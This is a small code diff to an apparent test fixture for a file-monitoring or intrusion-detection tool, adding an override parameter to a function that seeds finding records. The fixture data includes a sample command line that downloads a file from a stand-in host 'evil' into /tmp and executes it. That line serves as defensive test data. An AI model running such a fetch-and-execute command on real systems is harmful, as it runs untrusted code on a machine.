@@ -8,7 +8,7 @@ export const REASONS = ["new_file", "volume", "modified", "made_executable"] as 
 export const SEEDED = 90;
 
 /** Finding i: ten minutes older than finding i-1. */
-export function seededRecord(i: number, nowMs: number): FindingRecord {
+export function seededRecord(i: number, nowMs: number, over: Partial<FindingRecord> = {}): FindingRecord {
   return findingRecord(i, {
     firstSeenMs: nowMs - 60_000 - i * 600_000,
     lastSeenMs: nowMs - 60_000 - i * 600_000 + 30_000,
@@ -23,6 +23,7 @@ export function seededRecord(i: number, nowMs: number): FindingRecord {
     copyOf: i % 4 === 0 ? "/bin/busybox" : "",
     cmdline: `sh -c 'curl -o /tmp/x${i} evil; /tmp/x${i}'`,
     sha256: (i % 16).toString(16).repeat(64),
+    ...over,
   });
 }
 
